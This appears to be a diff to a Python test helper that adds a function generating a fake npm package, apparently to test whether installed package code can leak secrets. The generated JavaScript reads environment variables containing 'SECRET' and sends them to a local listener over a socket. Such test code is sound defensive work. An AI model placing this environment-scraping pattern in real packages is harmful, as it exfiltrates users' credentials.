@@ -43,6 +43,15 @@ runpy.run_path({str(SPEC_SERVER)!r}, run_name="__main__")
 """
 
 
+def reporting(listener: Listener, who: str) -> str:
+    """Code for an npm package of tests/artifacts/npm_registry.py (its `marker`: the first line is a comment) that
+    sends `who` and every canary in its environment to `listener`."""
+    return (
+        f"{who}\nrequire('net').connect({listener.port}, '127.0.0.1', function () {{ this.end('ran {who} ' + "
+        "Object.values(process.env).filter((v) => v.includes('SECRET')).sort().join(' ')); });"
+    )
+
+
 def canary() -> str:
     return "SECRET" + secrets.token_hex(16)
 
